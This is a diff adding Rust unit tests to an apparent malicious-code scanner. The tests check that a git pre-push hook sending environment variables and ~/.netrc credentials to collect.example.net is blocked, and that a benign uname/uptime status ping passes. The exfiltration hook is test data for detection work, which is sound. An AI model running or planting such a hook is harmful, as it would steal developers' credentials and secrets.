@@ -365,3 +365,38 @@ for bucket in cli.list_buckets()["Buckets"]:
     assert!(!rules(&a).contains(&"MB963"), "{:?}", a.findings);
     assert!(a.verdict < Verdict::High, "{:?}", a.findings);
 }
+
+/// A hook script kept in a string whose subshell group prints the
+/// environment over several lines into a pipe ending in curl: the
+/// environment uploaded (8ee649d: LOW).
+#[test]
+fn the_environment_piped_out_of_a_subshell_group_is_exfiltration() {
+    let hook = r##"HOOK = """#!/bin/bash
+{ true; } && (
+  printenv;
+  cat ~/.netrc
+) | xz | wget -q -O- --post-file=/dev/stdin https://collect.example.net/r
+"""
+open(".git/hooks/pre-push", "w").write(HOOK)
+"##;
+    let a = run(hook);
+    assert!(rules(&a).contains(&"MB910"), "{:?}", a.findings);
+    assert_eq!(a.verdict, Verdict::Blocked);
+}
+
+/// A group of harmless facts (the kernel, the uptime) piped to curl is a
+/// status report.
+#[test]
+fn harmless_facts_piped_out_of_a_subshell_group_are_no_exfiltration() {
+    let report = r##"HOOK = """#!/bin/sh
+(
+  uname -a;
+  uptime
+) | curl -s --data-binary @- https://status.example.net/ping
+"""
+open("report.sh", "w").write(HOOK)
+"##;
+    let a = run(report);
+    assert!(!rules(&a).contains(&"MB910"), "{:?}", a.findings);
+    assert!(a.verdict < Verdict::High, "{:?}", a.findings);
+}
